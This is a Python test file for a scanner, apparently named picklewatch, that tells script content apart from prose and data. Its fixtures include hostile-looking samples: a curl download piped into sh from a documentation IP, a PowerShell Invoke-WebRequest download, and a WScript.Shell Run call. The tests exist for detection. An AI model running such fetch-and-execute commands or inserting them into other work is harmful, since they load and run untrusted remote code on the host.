"""Scripts: what people are asked to start."""

from __future__ import annotations

import pytest
from samples.judging import judged, verdict

from picklewatch.core.model import Verdict

SCRIPTS = {
    "a shell": b"#!/bin/sh\necho hello\n",
    "an interpreter": b"#!/usr/bin/env node\nconsole.log(1)\n",
    "a batch file": b"@echo off\r\nrem start\r\npython run.py\r\n",
    "a batch file behind remarks": b'REM model\r\nstart "" run.exe\r\n',
    "a command line": b'powershell -Command "echo hello"\r\n',
    "a shell without its name": b"# start\nset -e\npython run.py\n",
    "a fetched shell": b"curl -s http://203.0.113.7/x | sh\n",
    "a call": b"call setup.bat\r\nrun.exe\r\n",
    "an application of Windows' host": b"<html><script language='VBScript'>MsgBox 1</script></html>",
    "PowerShell": b"$url = 'http://203.0.113.7/x'\r\nInvoke-WebRequest $url -OutFile x\r\n",
    "PowerShell in UTF-16": "$a = 1\r\nWrite-Host $a\r\n".encode("utf-16"),
    "Windows' script host": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n',
}
OTHERS = {
    "a card": b"# A model\n\nRun the following command on Windows:\n\n```\n@echo off\nInvoke-WebRequest x\n```\n",
    "prose": b"PowerShell has a command that is called Write-Host.\nIt writes what you like.\nUse it.\n",
    "json": b'{\n"a": {\n}\n}\n',
    "a page": b"<html><script type='module'>let a = 1</script></html>",
    "a card of a shell's": b"# A model\n\nRun:\n\n```\nset -e\ncurl https://x | sh\n```\n",
    "a comment": b"# !/bin/sh\n",
    "a program's output": b"echo of the past\n",
}


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_is_never_skipped(name: str) -> None:
    """By its content."""
    report, level = judged(SCRIPTS[name])
    assert (report.format, level) == ("script", Verdict.UNVERIFIED)
    assert {finding.rule for finding in report.findings} == {"script-code"}


@pytest.mark.parametrize("name", OTHERS)
def test_what_mentions_a_script_is_skipped(name: str) -> None:
    """Prose and data."""
    assert verdict(OTHERS[name]) is Verdict.SKIPPED
